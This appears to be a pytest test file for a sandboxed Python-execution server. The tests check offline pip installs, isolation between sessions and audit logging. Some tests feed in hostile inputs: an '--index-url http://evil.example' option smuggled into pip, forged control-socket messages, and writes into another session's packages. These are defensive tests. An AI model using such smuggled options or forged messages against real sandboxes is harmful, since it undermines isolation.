"""Code in real sessions installs packages without a network, by every command that people use."""

from __future__ import annotations

import json
import logging
import os
import tempfile
from contextlib import asynccontextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import anyio
import pytest
from mcp import Client
from mcp.types import TextContent

from aca_mcp.errors import PackagesNotInstalledError
from aca_mcp.pools import open_session_pool
from aca_mcp.server.app import ServerOptions, create_server
from aca_mcp.server.audit import AuditLog
from aca_mcp.server.callers import Callers
from aca_mcp.server.sessions.client_sessions import open_sessions
from aca_mcp.settings import Settings
from tests.support.reachable import reachable_python

if TYPE_CHECKING:
    from collections.abc import AsyncGenerator, Generator

    from aca_mcp.pool import Execution, SessionPool
    from tests.support.package_index import Index


CHECK_CALL = """
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "needs-tea"])
"""


@pytest.fixture
def data_dir() -> Generator[Path]:
    """A directory that every user can reach, as sessions of root are users of their own."""
    with tempfile.TemporaryDirectory(prefix="aca-mcp-data-") as name:
        Path(name).chmod(0o755)
        yield Path(name)


@pytest.fixture(params=["namespaces", "landlock"])
async def pool(
    request: pytest.FixtureRequest, index: Index, data_dir: Path
) -> AsyncGenerator[SessionPool]:
    with reachable_python() as python:
        tier = {"local_isolation": request.param, "local_python": Path(python)}
        async with opened(index, data_dir, **tier) as each:
            yield each


@asynccontextmanager
async def opened(index: Index, data_dir: Path, **changes: object) -> AsyncGenerator[SessionPool]:
    settings = Settings(
        data_dir=data_dir,
        package_index=index.url,
        local_preimport="",
        local_ready_sessions=0,
        **changes,  # pyright: ignore[reportArgumentType] -- named as the fields
    )
    async with open_session_pool(settings) as pool:
        yield pool


async def run(pool: SessionPool, code: str, identifier: str = "a-session") -> Execution:
    with anyio.fail_after(50):
        return await pool.execute(identifier, code, timeout_seconds=40)


async def printed(pool: SessionPool, code: str) -> str:
    execution = await run(pool, code)
    assert execution.error is None, execution.error.traceback
    return execution.stdout.text + execution.stderr.text


@pytest.mark.parametrize(
    "command",
    [
        "%pip install needs-tea",
        "!pip install -q --upgrade needs-tea",
        "!uv pip install 'needs-tea==2.0'",
        "!python -m pip install needs-tea > /dev/null 2>&1 && echo done",
        "import sys\n!{sys.executable} -m pip install needs-tea | tail -1",
        CHECK_CALL,
        "import os; os.system('pip3 install needs-tea')",
        "open('wanted.txt', 'w').write('needs-tea  # tea\\n')\n%pip install -r wanted.txt",
    ],
)
async def test_the_import_works_in_the_next_line(
    command: str, index: Index, data_dir: Path
) -> None:
    async with opened(index, data_dir) as pool:
        await _install_and_import(pool, command)


async def _install_and_import(pool: SessionPool, command: str) -> None:
    code = f"{command}\nimport needs_tea, tea_time\nprint('tea', tea_time.version)"
    assert "tea 1.0" in await printed(pool, code)
    program = (
        "import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', 'import tea_time;"
    )
    program += " print(tea_time.version)'], capture_output=True, text=True).stdout)"
    assert "1.0" in await printed(pool, program)


async def test_pip_prints_what_came_of_it(pool: SessionPool) -> None:
    text = await printed(pool, "%pip install needs-tea")
    assert text == "Successfully installed needs-tea-2.0 tea-time-1.0\n"
    assert await printed(pool, "!pip install tea-time") == (
        "Requirement already satisfied: tea-time (1.0)\n"
    )
    assert "tea-time 1.0" in await printed(pool, "!pip list")
    refused = await printed(pool, "%pip install --index-url http://evil.example x")
    assert "the option --index-url is not available" in refused
    failed = await run(
        pool, "import subprocess\nsubprocess.check_call(['pip', 'install', 'no-tea'])"
    )
    assert failed.error is not None
    assert failed.error.name == "CalledProcessError"
    assert "'no-tea'" in failed.stderr.text


async def test_the_port_installs_and_what_is_there_is_told(pool: SessionPool) -> None:
    made = await pool.install_packages("a-session", ["needs-tea"])
    assert [each.name for each in made.installed] == ["needs-tea", "tea-time"]
    assert "1.0" in await printed(pool, "import tea_time; print(tea_time.version)")
    again = await pool.install_packages("a-session", ["tea-time"])
    assert (again.installed, [each.version for each in again.present]) == ((), ["1.0"])
    with pytest.raises(PackagesNotInstalledError, match="'no-tea'"):
        await pool.install_packages("a-session", ["no-tea"])
    names = {each.name for each in await pool.list_packages("a-session")}
    assert {"needs-tea", "tea-time"} <= names


async def test_no_session_sees_or_changes_what_others_have(pool: SessionPool) -> None:
    await pool.install_packages("a-session", ["tea-time"])
    look = """
import errno, os, sys
import tea_time
directory = os.path.dirname(os.path.dirname(tea_time.__file__))
def refusal(action, *arguments):
    try:
        return action(*arguments)
    except OSError as error:
        return errno.errorcode[error.errno]
print(refusal(os.listdir, os.path.dirname(directory)))
print(refusal(os.chmod, os.path.dirname(directory), 0o755))
print(refusal(open, os.path.join(directory, 'tea_time', '__init__.py'), 'w'))
print(refusal(os.unlink, os.path.join(directory, 'tea_time', '__init__.py')))
print(refusal(open, os.path.join(directory, 'new'), 'w'))
"""
    lines = (await printed(pool, look)).split()
    assert all(line in {"EACCES", "EPERM", "EROFS"} for line in lines), lines
    other = await run(pool, "import tea_time", "another-session")
    assert other.error is not None
    assert other.error.name == "ModuleNotFoundError"


async def test_forged_questions_gain_nothing(pool: SessionPool, index: Index) -> None:
    forge = """
import json, socket, struct
control = socket.socket(fileno=3)
def ask(**header):
    body = json.dumps({**header, "blobs": []}).encode()
    control.sendall(struct.pack(">II", len(body), 0) + body)
for question in ({"ask": "install", "requirements": ["--index-url=http://evil.example"]},
                 {"ask": "install", "requirements": 7}, {"ask": ["x"]}, {"ask": None},
                 {"ask": "install", "requirements": [["tea"], {}, None] * 1000, "number": "x"}):
    ask(**question)
control.detach()
print("asked")
"""
    assert "asked" in await printed(pool, forge)
    assert index.asked == []
    assert await printed(pool, "print(1)") == "1\n"


async def test_where_nothing_may_be_installed_that_is_said(index: Index, data_dir: Path) -> None:
    async with opened(index, data_dir, packages="off") as pool:
        text = await printed(pool, "%pip install tea-time")
        assert "ACA_MCP_PACKAGES=index" in text
        with pytest.raises(PackagesNotInstalledError):
            await pool.install_packages("a-session", ["tea-time"])
    assert index.asked == []
    assert os.listdir(data_dir) == []  # noqa: PTH208 -- in one step


async def test_code_that_is_interrupted_while_it_installs_keeps_its_session(
    pool: SessionPool, index: Index
) -> None:
    await printed(pool, "kept = 1")
    execution = await pool.execute("a-session", "%pip install needs-tea", timeout_seconds=0.05)
    assert execution.session_lost is None
    assert await printed(pool, "print(kept)") == "1\n"
    assert "Success" in await printed(pool, "%pip install needs-tea")


def test_the_policy_is_off_over_http_unless_it_is_chosen() -> None:
    assert Settings().packages_policy == "index"
    assert Settings(transport="http").packages_policy == "off"
    assert Settings(transport="http", packages="index").packages_policy == "index"
    assert Settings(packages="off").packages_policy == "off"


async def test_who_asked_by_code_is_in_the_audit_log_and_counted(
    index: Index, data_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    principal = "token:alice"
    with caplog.at_level(logging.INFO, "aca_mcp.audit"):
        async with opened(index, data_dir) as pool, open_sessions(pool) as sessions:
            audit = AuditLog(lambda: principal, secret=b"s" * 32)
            options = ServerOptions(installs_packages=True)
            server = create_server(Callers(sessions, lambda: principal), options, audit=audit)
            async with Client(server) as client:
                for _ in range(20):
                    handle = (await client.call_tool("start_session", {})).content[0]
                    assert isinstance(handle, TextContent)
                    code = {"code": "%pip install -q needs-tea", "session": handle.text.strip()}
                    result = await client.call_tool("execute_python", code)
                    assert "Success" in str(result.content)
                    await client.call_tool("restart_session", {"session": handle.text.strip()})
                result = await client.call_tool("install_packages", {"packages": ["tea-time"]})
                assert "sessions of one user" in str(result.content)
    lines = [json.loads(record.message) for record in caplog.records]
    asked = [line for line in lines if "packages" in line]
    assert [line["packages"] for line in asked] == [["needs-tea"]] * 20 + [["tea-time"]]
    assert {line["principal"] for line in asked} == {principal}
    assert [line["outcome"] for line in asked] == ["ok"] * 20 + ["packages_not_installed"]
    executions = [line for line in lines if line.get("tool") == "execute_python"]
    assert [line["session"] for line in executions] == [line["session"] for line in asked[:20]]
    assert all(line["session"] for line in asked)
